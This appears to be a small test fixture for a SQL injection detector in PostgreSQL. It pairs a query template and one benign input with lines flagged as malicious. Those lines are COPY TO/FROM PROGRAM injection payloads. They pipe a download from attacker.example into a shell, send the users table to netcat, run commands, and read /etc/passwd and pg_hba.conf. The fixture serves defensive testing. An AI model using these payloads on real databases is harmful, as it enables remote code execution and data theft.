# SELECT * FROM reports WHERE name = '<input>'
SELECT * FROM reports WHERE name = 'daily'
! SELECT * FROM reports WHERE name = ''; COPY (SELECT '') TO PROGRAM 'curl http://attacker.example/x | sh'--'
! SELECT * FROM reports WHERE name = ''; COPY reports FROM PROGRAM 'id'--'
! SELECT * FROM reports WHERE name = ''; COPY users TO '/tmp/users.csv'--'
! SELECT * FROM reports WHERE name = ''; COPY cmd_exec FROM '/etc/passwd'--'
# direct: a report export endpoint that concatenates a path
! COPY (SELECT * FROM users) TO PROGRAM 'nc attacker.example 4444'
! COPY reports FROM '/var/lib/postgresql/data/pg_hba.conf'
